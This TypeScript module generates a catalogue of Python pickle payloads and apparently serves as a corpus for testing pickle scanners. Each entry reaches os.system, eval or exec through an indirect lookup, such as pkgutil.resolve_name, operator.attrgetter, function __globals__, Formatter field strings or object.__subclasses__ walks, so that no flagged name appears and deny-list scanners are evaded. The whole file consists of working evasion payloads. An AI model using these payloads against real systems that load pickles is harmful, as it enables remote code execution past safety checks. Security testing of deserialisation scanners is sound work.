// Class: a name is looked up from text or walked attribute by attribute, so that no dangerous name is imported.
import { buildPickle, call, global, text } from '../pickle.ts';
import { apply, attribute, C, D, executing, N, type Payload, python, shell, T } from './payload.ts';

const os = C('importlib', 'import_module', 'os');

export const resolvers: readonly Payload[] = [
  executing('pkgutil-resolve-name', 'a name from text', apply(C('pkgutil', 'resolve_name', 'os:system'), shell)),
  executing('importlib-getattr', 'a module by text, then getattr', apply(attribute(os, 'system'), shell)),
  executing(
    'builtins-import-getattr',
    'a module by __import__, then getattr',
    apply(attribute(C('builtins', '__import__', 'os'), 'system'), shell),
  ),
  executing(
    'importlib-dunder-import',
    'importlib.__import__',
    apply(attribute(C('importlib', '__import__', 'os'), 'system'), shell),
  ),
  executing(
    'importlib-bootstrap',
    'the frozen importer',
    apply(attribute(C('importlib._bootstrap', '_gcd_import', 'os'), 'system'), shell),
  ),
  executing(
    'operator-attrgetter',
    'attrgetter on a module',
    apply(apply(C('operator', 'attrgetter', 'system'), os), shell),
  ),
  executing(
    'c-operator-attrgetter',
    'the C twin of attrgetter',
    apply(apply(C('_operator', 'attrgetter', 'system'), os), shell),
  ),
  executing(
    'operator-methodcaller',
    'methodcaller on a module',
    apply(C('operator', 'methodcaller', 'system', shell), os),
  ),
  executing(
    'c-operator-methodcaller',
    'the C twin of methodcaller',
    apply(C('_operator', 'methodcaller', 'system', shell), os),
  ),
  executing(
    'module-through-listed-module',
    'os as a plain attribute of a module',
    apply(attribute(N('shutil', 'os'), 'system'), shell),
  ),
  executing(
    'modules-table',
    'sys.modules by getitem',
    apply(attribute(C('operator', 'getitem', N('sys', 'modules'), 'os'), 'system'), shell),
  ),
  executing(
    'modules-get',
    'sys.modules by a dotted method',
    apply(attribute(C('sys', 'modules.get', 'os'), 'system'), shell),
  ),
  executing(
    'module-dict',
    'os.__dict__ by getitem',
    apply(C('operator', 'getitem', N('os', '__dict__'), 'system'), shell),
  ),
  executing(
    'builtins-dict',
    'builtins.__dict__ by getitem',
    apply(C('_operator', 'getitem', N('builtins', '__dict__'), 'eval'), python),
  ),
  executing(
    'module-dict-bound-method',
    'the method of a dict of a module',
    apply(C('os', '__dict__.__getitem__', 'system'), shell),
  ),
  executing(
    'vars-of-module',
    'vars() of a module',
    apply(C('operator', 'getitem', C('builtins', 'vars', os), 'system'), shell),
  ),
  executing(
    'function-globals',
    'the globals of a function',
    apply(C('operator', 'getitem', N('logging', 'getLogger.__globals__'), 'os'), shell),
    { build: () => globalsWalk() },
  ),
  executing(
    'function-builtins',
    'the builtins of a function',
    apply(C('operator', 'getitem', N('copyreg', '_reconstructor.__builtins__'), 'eval'), python),
    { pythons: { from: 10 } },
  ),
  executing(
    'formatter-get-field',
    'the field language of string.Formatter',
    apply(
      C(
        'operator',
        'getitem',
        C(
          'string',
          'Formatter.get_field',
          C('string', 'Formatter'),
          '0.__globals__[os].system',
          T(N('logging', 'getLogger')),
          D(),
        ),
        0,
      ),
      shell,
    ),
  ),
  executing(
    'formatter-instance',
    'a bound method of a Formatter',
    apply(
      C(
        'operator',
        'getitem',
        apply(
          attribute(C('string', 'Formatter'), 'get_field'),
          '0.__globals__[os].system',
          T(N('logging', 'getLogger')),
          D(),
        ),
        0,
      ),
      shell,
    ),
  ),
  executing('pydoc-locate', 'pydoc.locate', apply(C('pydoc', 'locate', 'os.system'), shell)),
  executing('pydoc-safeimport', 'pydoc.safeimport', apply(attribute(C('pydoc', 'safeimport', 'os'), 'system'), shell)),
  executing('mock-importer', 'unittest.mock._importer', apply(C('unittest.mock', '_importer', 'os.system'), shell), {
    pythons: { before: 11 },
  }),
  executing(
    'xmlrpc-dotted',
    'xmlrpc.server.resolve_dotted_attribute',
    apply(C('xmlrpc.server', 'resolve_dotted_attribute', N('shutil', 'os'), 'system'), shell),
  ),
  executing(
    'logging-resolve',
    'logging.config resolves a dotted name',
    apply(C('logging.config', '_resolve', 'os.system'), shell),
  ),
  executing(
    'logging-configurator',
    'a configurator resolves a dotted name',
    apply(apply(attribute(C('logging.config', 'BaseConfigurator', D()), 'resolve'), 'os.system'), shell),
  ),
  executing(
    'pickle-find-class',
    'the unpickler looks it up',
    apply(C('operator', 'getitem', C('pickle', '_getattribute', os, 'system'), 0), shell),
    { pythons: { before: 14 } },
  ),
  executing(
    'inspect-getattr-static',
    'getattr without descriptors',
    apply(C('inspect', 'getattr_static', os, 'system'), shell),
  ),
  executing(
    'unpickler-find-class',
    'find_class of an Unpickler',
    apply(apply(attribute(C('_pickle', 'Unpickler', C('io', 'BytesIO')), 'find_class'), 'os', 'system'), shell),
  ),
  executing(
    'unpickler-class-method',
    'find_class of the Python unpickler',
    apply(C('pickle', '_Unpickler.find_class', C('pickle', '_Unpickler', C('io', 'BytesIO')), 'os', 'system'), shell),
  ),
  executing(
    'frame-builtins',
    'the builtins of a frame',
    apply(C('operator', 'getitem', attribute(C('sys', '_getframe'), 'f_builtins'), 'eval'), python),
  ),
  executing(
    'inspect-frame',
    'the globals of a frame by inspect',
    apply(C('operator', 'getitem', attribute(C('inspect', 'currentframe'), 'f_builtins'), 'exec'), python),
  ),
  executing('subclasses-walk', 'object.__subclasses__ and the globals of one', C('builtins', 'eval', '1'), {
    build: () => subclassesWalk(),
  }),
  executing(
    'getattribute',
    'object.__getattribute__ instead of getattr',
    apply(C('builtins', 'object.__getattribute__', os, 'system'), shell),
  ),
  executing(
    'module-getattribute',
    'the getattribute of the module type',
    apply(C('types', 'ModuleType.__getattribute__', os, 'system'), shell),
  ),
  executing(
    'dotted-listed-module',
    'a dotted name through the import of another module',
    C('random', '_os.system', shell),
  ),
  executing('dotted-logging', 'a dotted name through logging', C('logging', 'os.system', shell)),
  executing(
    'dotted-collections',
    'a dotted name through collections._sys',
    apply(attribute(C('collections', '_sys.modules.get', 'os'), 'system'), shell),
  ),
  executing('dotted-codecs', 'a dotted name through codecs', C('codecs', 'builtins.eval', python)),
  executing(
    'dotted-copyreg',
    'a dotted name from a listed function',
    apply(C('operator', 'getitem', N('collections', 'namedtuple.__builtins__'), 'eval'), python),
    { pythons: { from: 10 } },
  ),
  executing('dotted-uuid', 'a dotted name through uuid', C('uuid', 'os.system', shell)),
  executing(
    'dotted-pathlib-method',
    'a method of a listed class that writes',
    C('pathlib', 'Path.touch', C('pathlib', 'Path', 'assay-marker')),
  ),
  executing(
    'dotted-decimal',
    'a dotted name in protocol 4 by the GLOBAL opcode',
    buildPickle(4, call(global('tempfile', '_os.system'), text(shell))),
  ),
];

function globalsWalk(): Uint8Array {
  const module = C('operator', 'getitem', N('logging', 'getLogger.__globals__'), 'os');
  return executing('', '', apply(attribute(module, 'system'), shell)).build();
}

// warnings.catch_warnings is a Python class in every version; its __init__ has the globals of warnings, with sys in them.
function subclassesWalk(): Uint8Array {
  const classes = C('builtins', 'object.__subclasses__');
  const names = C('builtins', 'map', C('operator', 'attrgetter', '__name__'), classes);
  const at = C('operator', 'indexOf', names, 'catch_warnings');
  const found = C('operator', 'getitem', C('builtins', 'object.__subclasses__'), at);
  const globals = attribute(attribute(found, '__init__'), '__globals__');
  const modules = attribute(C('operator', 'getitem', globals, 'sys'), 'modules');
  return executing('', '', apply(attribute(C('operator', 'getitem', modules, 'os'), 'system'), shell)).build();
}
